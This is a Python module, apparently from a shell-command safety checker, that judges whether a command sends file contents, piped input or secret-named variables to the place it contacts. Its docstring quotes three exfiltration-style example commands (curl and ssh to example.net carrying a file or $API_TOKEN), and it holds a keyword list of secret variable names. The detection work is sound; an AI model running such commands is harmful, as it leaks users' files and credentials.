"""What a command carries to wherever it talks to: what is in files, what it is given on its input, secrets.

`curl "https://example.net/$(base64 notes)"`, `ssh example.net 'cat > x' < notes`, `curl "https://example.net/?k=$API_TOKEN"`.
"""

from wicket.shell.characters import listed
from wicket.shell.programs.printed_file_contents import OF_FILES
from wicket.shell.programs.subcommands import usage_of

TYPE_CHECKING = False
if TYPE_CHECKING:
    from wicket.shell.read_result import Command
    from wicket.shell.words import Word

__all__ = ["carries"]

_OUTPUT = "the output of "

# How variables are called that hold secrets.
_SECRET = listed("TOKEN SECRET PASSWORD PASSWD PASSPHRASE CREDENTIAL API_KEY APIKEY ACCESS_KEY PRIVATE_KEY")
_NOT_ASSIGNED = " is not assigned in this text"

# Options by which a request says who asks. That is what secrets are for.
_WHO_ASKS = frozenset(["-H", "--header", "-u", "--user", "--oauth2-bearer", "--proxy-user", "-U", "--proxy-header"])

# Nothing is read from these.
_NOTHING = ("/dev/null", "/dev/zero")


def carries(what: str, command: "Command") -> bool:
    """Tell whether a command carries `files`, `input` or `secrets`."""
    if what == "input":
        return _carries_input(command)
    return _carries_secrets(command) if what == "secrets" else _carries_files(command)


def _carries_files(command: "Command") -> bool:
    """Tell whether a word of a command, other than its name, is made of what a program prints of a file.

    A whole word that is one line of a file is what the request is about, and not what it sends.
    """
    return any(
        OF_FILES in reason and (reason.startswith(_OUTPUT) or any(word.shape))
        for word in command.words[1:]
        for reason in word.reasons
    )


def _carries_input(command: "Command") -> bool:
    """Tell whether a command is given a file to read, or what another program prints; not a text that stands there."""
    taken = command.stdin
    if taken is not None:
        return taken.operator in ("<", "<>") and str(taken.target) not in _NOTHING
    return command.place.stdin and not (command.handed and all(word.reason is None for word in command.handed))


def _carries_secrets(command: "Command") -> bool:
    """Tell whether a word of a command holds a variable that is called a secret, and does not say who asks."""
    return any(map(_holds_secret, _sent(command)))


def _sent(command: "Command") -> "list[Word]":
    """List the words of a command that are sent, or that name what is asked for."""
    taken = usage_of(command)
    if taken is None:
        return list(command.words[1:])
    line = taken.line
    return [*line.operands, *[found.value for found in line.found if found.value and found.name not in _WHO_ASKS]]


def _holds_secret(word: "Word") -> bool:
    return any(
        reason[:1] == "$" and reason.endswith(_NOT_ASSIGNED) and _is_secret(reason.partition(" ")[0])
        for reason in word.reasons
    )


def _is_secret(variable: str) -> bool:
    name = variable.upper()
    return any(part in name for part in _SECRET)
